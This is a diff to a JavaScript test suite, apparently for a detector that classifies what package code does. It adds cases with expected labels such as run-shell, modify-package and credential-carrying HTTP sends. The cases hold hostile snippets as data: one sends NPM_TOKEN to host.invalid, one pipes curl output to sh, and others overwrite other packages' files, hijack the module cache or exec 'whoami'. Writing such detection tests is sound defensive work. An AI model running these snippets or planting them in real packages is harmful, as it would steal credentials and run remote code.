@@ -605,6 +605,43 @@ describe('JavaScript: hostile input', () => {
 });
 
 const SCRIPT = "require('https').get('https://host.invalid/' + process.env.NPM_TOKEN)";
+table('JavaScript: files of another package', [
+  ['written', "require('fs').writeFileSync(require.resolve('other'), 'x')", 'modify-package path:package'],
+  [
+    'written beside its manifest',
+    "const p = require('path'); require('fs').writeFileSync(p.join(p.dirname(require.resolve('@a/other/package.json')), 'lib/x.js'), 'x')",
+    'modify-package path:package',
+  ],
+  ['its code put into the cache', "require.cache[require.resolve('other')] = { exports: {} }", 'hook-import'],
+  ['loaded', "require(require.resolve('child_process')).exec('whoami')", 'P1 | run-shell | read-user-name'],
+  ['loaded, of another package', "require(require.resolve('cross-spawn')).sync('whoami')", 'run-program'],
+  [
+    'loaded from its folder',
+    "const p = require('path'); require(p.join(p.dirname(require.resolve('mz/package.json')), 'fs')).readFile('/srv/x')",
+    'R3 | !dynamic-import',
+  ],
+  [
+    'its program run',
+    `${CP}.spawn(process.execPath, [require.resolve('other/bin/x.js')])`,
+    'run-program program:interpreter | !modify-package',
+  ],
+  [
+    'copied out under its own name',
+    "const p = require('path'); require('fs').writeFileSync(p.join('dist', p.basename(require.resolve('other/x.css'))), 'x')",
+    'write-file | !modify-package',
+  ],
+  [
+    'a file of its own',
+    { 'index.js': "require('fs').writeFileSync(require.resolve('./x.js'), 'x')", 'x.js': '' },
+    'write-file | !modify-package',
+  ],
+  [
+    'a file of its own, by its name',
+    { 'index.js': "require(require.resolve('./x.js'))", 'x.js': `${CP}.exec('whoami')` },
+    'run-shell | read-user-name',
+  ],
+]);
+
 table('JavaScript: what comes in, what was written', [
   [
     'a request body that is run',
@@ -635,6 +672,21 @@ table('JavaScript: what comes in, what was written', [
     'a shell script written and run',
     `require('fs').writeFileSync('/tmp/x', 'curl https://host.invalid/x | sh'); ${CP}.execSync('sh /tmp/x')`,
     'write-file | pipe-to-shell hidden',
+  ],
+  [
+    'a script written and run further down a command line',
+    `require('fs').writeFileSync('/tmp/x', ${JSON.stringify(SCRIPT)}); ${CP}.exec('cd /tmp && node /tmp/x')`,
+    'write-file path:temp | http-send carries:credentials hidden',
+  ],
+  [
+    'a script written, its first line says what reads it',
+    `require('fs').writeFileSync('/tmp/x', ${JSON.stringify('#!/usr/bin/env python3\nimport os\nos.system("whoami")')}); ${CP}.exec('/tmp/x')`,
+    'write-file | run-shell hidden | read-user-name',
+  ],
+  [
+    'a text written and shown',
+    `require('fs').writeFileSync('/tmp/x', ${JSON.stringify(SCRIPT)}); ${CP}.exec('cat /tmp/x')`,
+    'write-file | !http-send',
   ],
   [
     'a script written and not run',
